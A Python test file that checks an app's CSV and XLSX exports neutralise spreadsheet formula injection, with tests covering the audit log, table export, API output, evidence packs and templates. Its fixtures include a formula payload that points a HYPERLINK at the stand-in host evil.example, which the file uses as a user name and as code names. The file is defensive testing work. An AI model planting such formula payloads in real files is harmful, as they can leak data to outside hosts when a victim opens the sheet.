"""Files for Excel carry no formulas (issue 16, finding 6): every .csv and .xlsx the app writes
keeps a text that starts with =, +, -, @, a tab or a carriage return as text (components/cells.py),
and numbers stay numbers: the rule itself, the audit CSV after a sign-in with a formula for a user
name, a table export, the API's CSV and XLSX, an evidence pack's .xlsx and a template."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, date, datetime

import pytest

from tests.conftest import ORIGIN, login, signed_in_clients

LEAK = '=HYPERLINK("http://evil.example/?leak","click me")'
STARTS = ["=1+1", "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]  # the six leading characters
HARMLESS = ["1+1", "ก=1", " =1", "", "'=1", "–5"]  # en dash, not a minus


def _formulas(wb) -> list[str]:
    """Cells of a workbook Excel would run, or that an edit would turn into a formula."""
    from components.cells import formula_like

    bad = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.data_type == "f" or (formula_like(c.value) and not (c.data_type == "s" and c.quotePrefix)):
                    bad.append(f"{ws.title}!{c.coordinate} {c.value!r} ({c.data_type})")
    return bad


def _load(data: bytes):
    from openpyxl import load_workbook

    return load_workbook(io.BytesIO(data))


def test_the_rule_over_the_six_leading_characters():
    from openpyxl import Workbook

    from components.cells import csv_value, formula_like, xlsx_text

    for s in STARTS:
        assert formula_like(s) and csv_value(s) == "'" + s, repr(s)
    for v in HARMLESS + [-5, -5.5, 0, None, True, date(2026, 1, 1)]:
        assert not formula_like(v) and csv_value(v) == v, repr(v)
    wb = Workbook()
    ws = wb.active
    for j, v in enumerate(STARTS + [-5, "text"], start=1):
        xlsx_text(ws.cell(1, j, v))
    got = _load((lambda b: (wb.save(b), b.getvalue())[1])(io.BytesIO()))
    row = next(got.active.iter_rows(values_only=False))
    assert [c.value for c in row] == STARTS + [-5, "text"]
    assert all(c.data_type == "s" and c.quotePrefix for c in row[:6])
    assert row[6].data_type == "n" and not row[7].quotePrefix


@pytest.fixture(scope="module")
def site(built_warehouse, tmp_path_factory):
    """(make_client(role), ops engine) on the demo warehouse and an ops store of this module's own."""
    mp = pytest.MonkeyPatch()
    home = tmp_path_factory.mktemp("excel")
    mp.setenv("SANYAN_WAREHOUSE", str(built_warehouse))
    mp.setenv("SANYAN_OPS_URL", f"sqlite:///{home / 'ops.sqlite'}")
    mp.setenv("SANYAN_SECRET_KEY", "excel-tests-" + "k" * 30)
    import ops

    eng = ops.engine()
    make = signed_in_clients(eng, "xl", ("admin", "viewer"))
    yield make, eng
    mp.undo()


def test_audit_csv_after_a_sign_in_with_a_formula_for_a_name(site):
    import app

    make, _eng = site
    stranger = app.server.test_client()
    r = login(stranger, LEAK, "not the password")
    assert r.status_code == 200 and "login-error" in r.get_data(as_text=True)
    c = make("admin")
    c.get("/_dash-dependencies")
    body = {
        "output": "admin-download.data",
        "outputs": {"id": "admin-download", "property": "data"},
        "inputs": [{"id": "admin-export", "property": "n_clicks", "value": 1}],
        "state": [],
        "changedPropIds": ["admin-export.n_clicks"],
    }
    r = c.post("/_dash-update-component", json=body, headers=ORIGIN)
    assert r.status_code == 200, r.get_data(as_text=True)[:500]
    sent = r.get_json()["response"]["admin-download"]["data"]
    assert sent["filename"] == "sanyan_audit.csv"
    table = list(csv.DictReader(io.StringIO(sent["content"].lstrip("\ufeff"))))
    tried = [row for row in table if row["action"] == "login" and row["outcome"] == "failed"]
    assert tried and tried[-1]["target"] == "'" + LEAK and tried[-1]["who"] == "'" + LEAK
    from components.cells import formula_like

    assert not [v for row in table for v in row.values() if formula_like(v)]
    assert any(row["audit_id"].isdigit() for row in table)  # numbers are written as numbers


def test_table_export_title_header_and_cells(site):
    make, _eng = site
    table = {"title": "=1+1 t", "header": ["@who", "ค่า", "\t+x"], "rows": [["-2+3", -5, "=A1"], ["\r=x", "-5", "@y"]]}
    r = make("viewer").post("/export/table.xlsx", json=table, headers=ORIGIN)
    assert r.status_code == 200, r.get_data(as_text=True)
    wb = _load(r.data)
    assert _formulas(wb) == []
    ws = wb.active
    assert ws["A1"].value == "=1+1 t" and ws["A1"].data_type == "s"
    rows = [list(x) for x in ws.iter_rows(min_row=4, values_only=True)]
    assert rows == [["@who", "ค่า", "\t+x"], ["-2+3", -5, "=A1"], ["=x", -5, "@y"]]  # cells are trimmed
    assert ws["B5"].data_type == "n" and ws["B6"].data_type == "n"  # -5 and "-5": the number -5


def test_api_csv_and_xlsx(site):
    import pandas as pd

    from web import api

    frame = pd.DataFrame({"area_code": ["8601"] * 6, "name_th": STARTS, "value": [-5.5, -0.25, 0, 1, 2, 3]})
    meta = api.metadata(api.DATASETS["population"], frame)
    meta["title"] = {"th": "=1+1", "en": "+1"}
    rows = list(csv.reader(io.StringIO(api.to_csv(frame).decode("utf-8").lstrip("\ufeff"))))
    assert [r[1] for r in rows[1:]] == ["'" + s for s in STARTS]
    assert [r[2] for r in rows[1:3]] == ["-5.5", "-0.25"]  # numbers are not quoted
    wb = _load(api.to_xlsx(frame, meta))
    assert _formulas(wb) == []
    got = list(wb["data"].iter_rows(min_row=2, values_only=True))
    assert [g[1] for g in got] == STARTS and got[0][2] == -5.5 and got[1][2] == -0.25
    assert ("title", "=1+1") in [tuple(x) for x in wb["metadata"].iter_rows(max_col=2, values_only=True)]


def test_evidence_xlsx():
    from reports import evidence

    figure = {
        "key": "-key",
        "th": "=ชื่อ",
        "en": "=name",
        "value": -5,
        "unit": "+u",
        "source": "@src",
        "as_of": date(2026, 11, 15),
        "sample": False,
    }
    t = {
        "th": "=ตาราง",
        "en": "=table",
        "sample": False,
        "columns": [("=a", "=a"), ("ค่า", "value", "dec1")],
        "rows": [["-2+3", -5.5], ["\tx", 3]],
        "source": "\rsource",
    }
    p = {
        "fy": 2570,
        "today": date(2026, 11, 24),
        "generated_at": datetime.now(UTC),
        "snapshot": {"version": "=v", "as_of": date(2026, 11, 15), "built_at": None},
        "province": {"code": "86", "th": "=จังหวัด", "en": "=province"},
        "scope": None,
        "sample": False,
        "sections": {"IT1": evidence._section("IT1", [figure], [t], [("=หมายเหตุ", "=note")])},
    }
    wb = _load(evidence.pack_xlsx(p))
    assert _formulas(wb) == []
    values = [c for row in wb["IT1"].iter_rows(values_only=True) for c in row if c is not None]
    assert "-2+3" in values and "=ชื่อ" in values and -5 in values and -5.5 in values


def test_template_with_formula_like_code_names(tmp_path):
    from inputs.template import HELP_SHEET, LISTS_SHEET, write_template

    lists = {"kpi": {"K01": LEAK, "K02": "-2+3"}, "area": {"8601": "@x"}}
    wb = _load(write_template("kpi_actuals", tmp_path / "t.xlsx", code_lists=lists).read_bytes())
    assert _formulas(wb) == []
    shown = json.dumps(
        [[c for c in row] for ws in (wb[LISTS_SHEET], wb[HELP_SHEET]) for row in ws.iter_rows(values_only=True)],
        ensure_ascii=False,
        default=str,
    )
    assert json.dumps(LEAK)[1:-1] in shown and "-2+3" in shown
